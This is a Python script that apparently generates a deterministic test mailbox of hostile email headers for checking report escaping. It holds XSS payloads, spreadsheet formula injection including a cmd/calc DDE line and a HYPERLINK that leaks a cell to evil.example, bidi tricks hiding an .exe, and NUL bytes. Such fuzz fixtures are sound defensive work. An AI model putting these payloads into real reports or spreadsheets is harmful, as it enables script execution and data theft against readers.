#!/usr/bin/env python3
"""Writes hostile.mbox: a Sent folder whose subjects, names, addresses and
ids were written to attack the reports (script tags, attribute breakouts,
javascript: links, spreadsheet formulas, bidi controls, a 10,000-character
subject, NUL bytes in names, a combining mark after a quote).

Every message exposes two or more external parties, so each one is a finding
and reaches every report. Deterministic: run `python3 make_hostile.py` and
commit hostile.mbox; `--check` fails when the committed file differs.
Python 3 standard library only.
"""
import base64
import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE / "hostile.mbox"


def b(text):
    """One RFC 2047 B-encoded word (UTF-8) per 30 characters, folded."""
    words = []
    for i in range(0, len(text), 30):
        chunk = text[i : i + 30].encode("utf-8")
        words.append("=?UTF-8?B?" + base64.b64encode(chunk).decode("ascii") + "?=")
    return "\n ".join(words)


def message(n, subject, to, cc=None, extra=None, message_id=None, date=None):
    lines = [
        f"From sato.ichiro@corp.example Mon Jun  2 0{n % 10}:00:00 2025",
        "From: Sato Ichiro <sato.ichiro@corp.example>",
        "To: " + ",\n ".join(to),
    ]
    if cc:
        lines.append("Cc: " + ",\n ".join(cc))
    lines.append("Subject: " + subject)
    lines.append("Date: " + (date or f"Mon, 0{1 + n % 9} Jun 2025 1{n % 10}:00:00 +0900"))
    lines.append("Message-ID: " + (message_id or f"<hostile-{n:02d}@mail.corp.example>"))
    lines += extra or []
    lines += ["MIME-Version: 1.0", "Content-Type: text/plain; charset=UTF-8", "", f"Body {n}.", ""]
    return "\n".join(lines) + "\n"


def mailbox():
    m = []
    # 1. Script tags in the subject and in display names.
    m.append(message(1, "<script>alert('subject')</script>", [
        '"<script>alert(1)</script>" <script.sample@gmail.com>',
        '"\\"><img src=x onerror=alert(2)>" <img.buyer@acme.example>',
    ]))
    # 2. javascript: links, and an attribute breakout inside a quoted local part.
    m.append(message(2, "javascript:alert(document.cookie)", [
        "javascript:alert(3) <js.sample@yahoo.co.jp>",
        '"\\"><img src=x onerror=alert(4)>"@evil.example',
        "<a href=javascript:alert(5)>x</a> <link@umbrella.example>",
    ]))
    # 3. Spreadsheet formulas in every text cell a CSV holds.
    m.append(message(3, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", [
        "\"+cmd|' /C calc'!A0\" <plus.sample@gmail.com>",
        '"-2+3" <minus@acme.example>',
        '"@SUM(1+1)" <at@umbrella.example>',
        b("\tTAB=1+1") + " <tab.sample@outlook.com>",
        b("\rCR=1+1") + " <cr.sample@hotmail.com>",
    ]))
    # 4. Bidi controls: a right-to-left override hiding an .exe, isolates.
    m.append(message(4, b("invoice \u202egpj.exe and \u2067isolated\u2069 text \u200f"), [
        b("\u202eevil\u202c name") + " <bidi.sample@gmail.com>",
        "Plain Name <plain@acme.example>",
    ]))
    # 5. A 10,000-character subject of words, folded as a client would.
    words = ("overflow " * 1112)[:10000]
    folded = "\n ".join(words[i : i + 70] for i in range(0, len(words), 70))
    m.append(message(5, folded, ["long.sample@gmail.com", "long@acme.example"]))
    # 6. A 10,000-character word without a space (adjacent encoded words
    #    join without one): tests that the layout wraps it.
    m.append(message(6, b("W" * 10000), ["word.sample@gmail.com", "word@acme.example"]))
    # 7. NUL bytes in names: raw and encoded.
    m.append(message(7, "NUL bytes in names", [
        "Raw\x00Nul <raw.nul.sample@gmail.com>",
        "=?UTF-8?Q?Enc=00Nul?= <enc.nul@acme.example>",
    ]))
    # 8. Japanese names and subject carrying markup; closing tags that end
    #    the title or style element if left raw.
    m.append(message(8, b("見積書</title><script>alert(7)</script></style>"), [
        b("山田<b>太郎</b>") + " <yamada.sample@docomo.ne.jp>",
        b("鈴木\"花子'") + " <suzuki@sakura.example>",
    ]))
    # 9. A quote followed by a combining mark: one grapheme cluster, which a
    #    per-character escaper can miss.
    m.append(message(9, b("\"\u0301><svg onload=alert(8)>"), [
        b("'\u0301><svg onload=alert(9)>") + " <combining.sample@gmail.com>",
        "combining@acme.example",
    ]))
    # 10. A hostile Message-ID and an unreadable date.
    m.append(message(10, "Hostile id", ["id.sample@gmail.com", "id@acme.example"],
                     message_id='<"><script>alert(10)</script>@evil.example>',
                     date="<script>alert(11)</script>"))
    # 11. Comment markers, CDATA ends, entities and an unreadable address.
    m.append(message(11, "<!-- ]]> &lt;script&gt; &amp;#x3C; {{mustache}} {{{triple}}}", [
        "cdata.sample@gmail.com", "cdata@acme.example", "<<not an address>>",
    ]))
    return "".join(m)


def main():
    data = mailbox().encode("utf-8")
    if "--check" in sys.argv:
        if OUT.read_bytes() != data:
            sys.exit("hostile.mbox differs from what make_hostile.py writes")
        return
    OUT.write_bytes(data)


if __name__ == "__main__":
    main()
